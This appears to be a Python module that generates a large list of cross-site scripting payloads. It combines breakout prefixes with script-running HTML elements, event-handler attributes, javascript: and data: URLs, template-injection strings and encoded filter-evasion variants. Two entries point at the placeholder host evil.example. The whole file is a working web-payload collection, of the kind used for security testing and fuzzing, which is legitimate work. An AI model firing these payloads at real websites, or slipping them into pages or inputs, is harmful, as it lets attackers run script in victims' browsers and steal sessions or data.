"""A thousand strings that make a browser run a script where a page forgets to write them as text: made of the known
ways in (elements, handlers, addresses, ways out of a text, an attribute, a script, a comment)."""

from __future__ import annotations

import itertools

CALL = "xss(1)"
OUT = ("", '"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</select>",
       "</option>", "</td>", "`")  # fmt: skip
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={CALL}>",
    f"<link rel=stylesheet href=data:,* onload={CALL}>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java&#10;script:{CALL}'>x</a>",
    f"<div hx-on:load='{CALL}'></div>",
    f"<div hx-get=/ hx-trigger='load[{CALL}]'></div>",
    f"<div hx-vals='js:{{a:{CALL}}}' hx-trigger=load hx-get=/></div>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<image src=x onerror={CALL}>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<bgsound src=javascript:{CALL}>",
    f"<table background=javascript:{CALL}>",
    f"<div style='background:url(javascript:{CALL})'>",
    f"<div style='width:expression({CALL})'>",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{handler}={CALL}{space}x={quote}"
    for quote in ('"', "'")
    for space in (" ", "/", "\t", "\n")
    for handler in (
        "onmouseover",
        "onfocus autofocus onfocus",
        "onpointerenter",
        "style=animation-name:x onanimationstart",
    )
)
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"//evil.example/%0a{CALL}",
    f"feed:javascript:{CALL}",
)
TEMPLATES = ("{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "{{%s}}", "{%% raw %%}{{%s}}")
ENCODED = (
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "&lt;script&gt;%s&lt;/script&gt;",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
    "\uff1cscript\uff1e%s\uff1c/script\uff1e",
    "<scr\0ipt>%s</scr\0ipt>",
)


def strings() -> list[str]:
    """All of them, each once."""
    made = [way + element for way, element in itertools.product(OUT, ELEMENTS)]
    made += [*ATTRIBUTES, *ADDRESSES, *(each % CALL for each in (*TEMPLATES, *ENCODED))]
    made += [f"{way}{address}" for way, address in itertools.product(OUT, ADDRESSES)]
    made += [
        f"{one}{other}" for one, other in itertools.product(OUT[:5], (each % CALL for each in (*TEMPLATES, *ENCODED)))
    ]
    made += [element.replace("=", " = ").replace("<", "<\t", 1) for element in ELEMENTS]
    made += [element.upper().replace(CALL.upper(), CALL) for element in ELEMENTS]
    made += [element.replace(" ", "/") for element in ELEMENTS]
    made += [element.replace("<", "<\0", 1) for element in ELEMENTS]
    made += [element.replace("<", "<<", 1) for element in ELEMENTS]
    return list(dict.fromkeys(made))
